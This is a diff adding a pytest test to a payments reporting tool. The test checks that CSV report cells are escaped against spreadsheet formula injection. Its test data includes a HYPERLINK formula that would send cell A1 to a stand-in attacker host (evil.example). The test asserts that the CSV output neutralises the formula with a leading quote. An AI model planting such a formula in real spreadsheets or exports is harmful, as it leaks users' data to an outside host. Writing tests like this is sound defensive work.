@@ -205,3 +205,19 @@ def test_reports_print_csv_off_a_terminal_and_need_their_parameters(sample_loade
         run_command("report", "q3", "--currency", "PEN")
     with pytest.raises(CommandError, match="Unsupported currency 'EUR'"):
         run_command("report", "q1", "--currency", "EUR")
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(sample_loaded):
+    # A refund of a payment never charged is reported by Q4 with its payment_id, as the processor sent it.
+    link = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    event_ingest(payload=EventPayloadFactory(
+        event_id="evt_formula", event_type="refund_succeeded", restaurant_id="res_001", currency="PEN",
+        amount=100, fee=0, occurred_at="2025-12-30T10:00:00Z", metadata={"payment_id": link}))
+    status, out, _ = run_command("report", "q4", "--format", "csv")
+    assert status == 0
+    rows = list(csv.DictReader(io.StringIO(out)))
+    [row] = [row for row in rows if row["problem"] == "refund_unknown_payment" and "HYPERLINK" in row["reference"]]
+    assert row["reference"] == "'" + link  # shown as text, not run
+    assert rows[0]["amount"] == "-4200"  # numbers stay numbers, negative ones included
+    # JSON is not a spreadsheet: the value is exactly what was recorded.
+    assert link in [finding["reference"] for finding in report("q4")]
